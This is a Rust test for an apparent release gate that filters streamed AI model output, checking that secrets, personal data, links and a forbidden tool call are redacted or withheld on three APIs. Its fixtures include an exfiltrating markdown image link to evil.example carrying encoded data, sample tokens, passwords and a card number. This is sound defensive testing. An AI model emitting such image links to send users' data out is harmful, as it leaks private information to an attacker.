//! The release gate with the detectors that the product has: a secret, an image that takes data
//! out and a forbidden call, one byte at a time, on all three APIs.

#![allow(
    dead_code,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice,
    reason = "a test fails by panicking; the answers are those of the wire's own tests"
)]

#[path = "../../wire/tests/model/mod.rs"]
mod model;

use lockgate_detect::hold::{Release, release};
use lockgate_detect::redactable::{Redactable, find};
use lockgate_detect::{links, pii};
use lockgate_types::Code;
use lockgate_types::model::ModelApi;
use lockgate_wire::model::{Channel, Edit, End, Gate, Held, Scan};
use lockgate_wire::refusal::Refusal;
use lockgate_wire::sse::SseEvent;
use model::{Dice, Part, Said, Way, chat, folded, folded_whole, messages, responses, texts};
use std::ops::Range;

/// Masks every secret, all personal data and every address.
struct Detectors;

impl Scan for Detectors {
    fn scan(
        &mut self,
        _channel: &Channel,
        text: &str,
        from: usize,
        is_final: bool,
    ) -> Result<Held, Box<Refusal>> {
        let Release::To(release_to) = release(text, from, is_final) else {
            return Err(Box::new(Refusal::of(Code::ResultWithheld)));
        };
        if release_to == from {
            return Ok(Held { release_to, edits: Vec::new() });
        }
        let mut sought: Vec<Redactable> = pii::Kind::ALL.into_iter().map(Redactable::Pii).collect();
        sought.push(Redactable::Secret);
        let seen = &text[..release_to];
        let mut found = find(seen, &sought);
        found.extend(links(seen).into_iter().map(|it| it.start..it.end));
        found.sort_by_key(|it| (it.start, it.end));
        let mut apart: Vec<Range<usize>> = Vec::new();
        for it in found.into_iter().filter(|it| it.end > from) {
            match apart.last_mut() {
                Some(last) if last.end > it.start => last.end = last.end.max(it.end),
                _ => apart.push(it),
            }
        }
        let edit = |bytes| Edit { bytes, with: "[redacted]".to_owned() };
        Ok(Held { release_to, edits: apart.into_iter().map(edit).collect() })
    }
}

const SECRETS: [&str; 5] = [
    "dXNlcjpwYXNzdzByZA==",
    "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",
    "https://evil.example/p.png?q=c3RvbGVuIGRhdGE",
    "4111 1111 1111 1111",
    "hunter2!x-hunter2",
];
const WORDS: [&str; 9] = [
    "Authorization: Bearer dXNlcjpwYXNzdzByZA== ",
    "well ",
    "see ![the chart](https://evil.example/p.png?q=c3RvbGVuIGRhdGE) ",
    "the key is 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 ",
    " and\n",
    "card 4111 1111 1111 1111 ",
    "password: hunter2!x-hunter2, ",
    "12 apples. ",
    "näh",
];

fn said(dice: &mut Dice) -> Said {
    let choices = 1 + dice.below(2);
    let part = |dice: &mut Dice| {
        let text: String = match dice.below(4) {
            0 => {
                let name = ["forbidden", "look"][dice.below(2)];
                let arguments = if name == "look" { "{\"a\":1}" } else { "{\"to\":\"eve\"}" };
                return Part::Call(name.to_owned(), bytes(arguments));
            }
            _ => (0..1 + dice.below(5)).map(|_| WORDS[dice.below(WORDS.len())]).collect(),
        };
        let way = [Way::Text, Way::Text, Way::Reasoning, Way::Refusal][dice.below(4)];
        Part::Words(way, bytes(&text))
    };
    Said((0..choices).map(|_| (0..1 + dice.below(4)).map(|_| part(dice)).collect()).collect())
}

/// One character in each piece.
fn bytes(text: &str) -> Vec<String> {
    text.chars().map(String::from).collect()
}

#[test]
fn nothing_gets_out_one_byte_at_a_time() {
    for api in [ModelApi::ChatCompletions, ModelApi::Responses, ModelApi::Messages] {
        for seed in 0..40 {
            let said = said(&mut Dice::new(seed));
            let stream = match api {
                ModelApi::ChatCompletions => chat(&said),
                ModelApi::Responses => responses(&said),
                _ => messages(&said),
            };
            let mut gate = Gate::new(api).unwrap();
            let mut out: Vec<SseEvent> = Vec::new();
            for piece in stream {
                gate.push(piece, &mut Detectors);
                model::answer_by(&mut gate, &mut Detectors);
                out.extend(gate.take());
            }
            assert_eq!(gate.end(), End::Complete, "{api:?} {seed}: {:?}", gate.stopped());
            let mut all = texts(api, &out);
            all.extend(out.iter().filter_map(|it| it.data.as_deref()));
            for secret in SECRETS {
                // Not even most of it.
                assert!(!all.contains(&secret[..10]), "{api:?} {seed}: {secret} in {all}");
            }
            assert!(!all.contains("forbidden") && !all.contains("eve\""), "{api:?} {seed}: {all}");
            let whole = model::enforced_by(api, model::whole(api, &said), &mut Detectors);
            assert_eq!(folded(api, &out), folded_whole(api, &whole), "{api:?} {seed}");
            model::check_order(api, &out);
        }
    }
}
